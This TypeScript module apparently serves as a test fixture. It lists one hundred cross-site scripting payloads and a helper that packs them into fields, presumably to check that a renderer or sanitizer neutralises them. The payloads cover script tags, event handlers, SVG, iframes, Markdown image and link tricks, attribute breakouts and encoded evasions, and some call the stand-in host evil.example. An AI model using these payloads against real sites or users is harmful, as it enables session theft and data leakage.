/** A hundred ways in. Each would call `__xss`, or ask evil.example for something, were it taken for more than text. */
export const PAYLOADS: readonly string[] = [
  // elements that run
  "<script>__xss(1)</script>",
  "<SCRIPT>__xss(2)</SCRIPT>",
  "<scr<script>ipt>__xss(3)</scr</script>ipt>",
  '<script src="https://evil.example/4.js"></script>',
  "<script src=//evil.example/5.js></script>",
  "<script\n>__xss(6)</script\n>".replaceAll("\n", " "),
  '<script type="module">import "https://evil.example/7.js"</script>',
  "<script>/*<!--*/__xss(8)//--></script>",
  "</script><script>__xss(9)</script>",
  "<script/xss>__xss(10)</script>",
  // handlers
  "<img src=x onerror=__xss(11)>",
  "<img src=x onerror='__xss(12)'>",
  "<img/src=x/onerror=__xss(13)>",
  '<img src="x" OnErRoR="__xss(14)">',
  "<img src=x onerror=window['__x'+'ss'](15)>",
  "<img src=x:x onerror&#61;__xss(16)>",
  "<img src=1 onerror=__xss`17`>",
  "<body onload=__xss(18)>",
  "<body onpageshow=__xss(19)>",
  "<input autofocus onfocus=__xss(20)>",
  "<select autofocus onfocus=__xss(21)>",
  "<textarea autofocus onfocus=__xss(22)>",
  "<details open ontoggle=__xss(23)>",
  "<marquee onstart=__xss(24)>x</marquee>",
  "<video><source onerror=__xss(25)></video>",
  "<audio src=x onerror=__xss(26)>",
  "<video src=x onloadstart=__xss(27) autoplay>",
  "<div onpointerover=__xss(28) style=position:fixed;inset:0>x</div>",
  "<button popovertarget=x onbeforetoggle=__xss(29)>x</button>",
  "<style onload=__xss(30)></style>",
  "<link rel=stylesheet href=x onerror=__xss(31)>",
  "<div style=animation-name:rise onanimationstart=__xss(32)>x</div>",
  "<p contenteditable autofocus tabindex=1 onfocus=__xss(33)>x</p>",
  // SVG and MathML
  "<svg onload=__xss(34)>",
  "<svg/onload=__xss(35)>",
  "<svg><script>__xss(36)</script></svg>",
  "<svg><script href=data:,__xss(37) /></svg>",
  "<svg><a xlink:href=javascript:__xss(38)><text>x</text></a></svg>",
  "<svg><animate onbegin=__xss(39) attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:__xss(40)></svg>",
  "<svg><image href=https://evil.example/41.svg></svg>",
  "<svg><use href=//evil.example/42.svg#x></svg>",
  "<svg><foreignObject><img src=x onerror=__xss(43)></foreignObject></svg>",
  "<math href=javascript:__xss(44)>x</math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=__xss(45)>",
  // documents within
  "<iframe src=javascript:__xss(46)></iframe>",
  "<iframe srcdoc='<script>parent.__xss(47)</script>'></iframe>",
  "<iframe src=https://evil.example/48></iframe>",
  "<object data=javascript:__xss(49)></object>",
  "<object data=https://evil.example/50></object>",
  "<embed src=https://evil.example/51>",
  "<base href=https://evil.example/52/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/53'>",
  "<form action=https://evil.example/54><button autofocus>x</button></form>",
  "<form id=x></form><button form=x formaction=javascript:__xss(55)>x</button>",
  "<link rel=prefetch href=https://evil.example/56>",
  "<style>@import 'https://evil.example/57.css'</style>",
  "<div style=background:url(https://evil.example/58.png)>x</div>",
  "<template shadowrootmode=open><img src=x onerror=__xss(59)></template>",
  "<portal src=https://evil.example/60></portal>",
  // images that would tell
  "<img src=https://evil.example/61.png>",
  "<img srcset='https://evil.example/62.png 1x'>",
  "<picture><source srcset=//evil.example/63.png><img></picture>",
  "<video poster=https://evil.example/64.png></video>",
  "![x](https://evil.example/65.png)",
  "![x](//evil.example/66.png)",
  "![x][y67] [y67]: https://evil.example/67.png",
  "[![x](https://evil.example/68.png)](https://evil.example/68)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoNjkpPg==)",
  '![x](https://evil.example/70.png "title\' onerror=__xss(70)")',
  // links
  "[x](javascript:__xss(71))",
  "[x](JaVaScRiPt:__xss(72))",
  "[x](java&#x09;script:__xss(73))",
  "[x](&#106;avascript:__xss(74))",
  "[x](javascript&colon;__xss(75))",
  "[x](  javascript:__xss(76))",
  "[x](data:text/html,<script>__xss(77)</script>)",
  "[x](vbscript:__xss(78))",
  "<javascript:__xss(79)>",
  "[x](blob:https://evil.example/80)",
  '[x](#cite-1-0" onmouseover="__xss(81)) [x](#cite-1-"onclick=__xss(81))',
  "<a href=javascript:__xss(82) autofocus onfocus=__xss(82)>x</a>",
  '<a href="\u0001javascript:__xss(83)">x</a>'.replace("\u0001", "&#1;"),
  "<a href=jav&Tab;ascript&colon;__xss(84)>x</a>",
  // out of an attribute, a string, a comment
  '"><img src=x onerror=__xss(85)>',
  "'><svg onload=__xss(86)>",
  '" autofocus onfocus=__xss(87) x="',
  "' onmouseover=__xss(88) x='",
  "`-__xss(89)-`",
  "';__xss(90)//",
  "</title></textarea></style></noscript><svg onload=__xss(91)>",
  "--><img src=x onerror=__xss(92)>",
  "]]><img src=x onerror=__xss(93)>",
  // templates
  "{{constructor.constructor('__xss(94)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point
  "${__xss(95)} #{__xss(95)} <%= __xss(95) %>",
  // entities and other writing
  "&lt;img src=x onerror=__xss(96)&gt;",
  "&#60;svg onload=__xss(97)&#62;",
  "\\u003cimg src=x onerror=__xss(98)\\u003e",
  "＜img src=x onerror=__xss(99)＞ ‹svg onload=__xss(99)›",
  "\u202e<img src=x onerror=__xss(100)>\u202c\u200b<s\u200bcript>__xss(100)</s\u200bcript>",
];

/** As many together as fit into a field, so that a page shows them all at once. */
export function packed(characters: number, payloads = PAYLOADS): string[] {
  const packs: string[] = [];
  for (const payload of payloads) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= characters)
      packs[packs.length - 1] = `${last} ${payload}`;
    else packs.push(payload);
  }
  return packs;
}
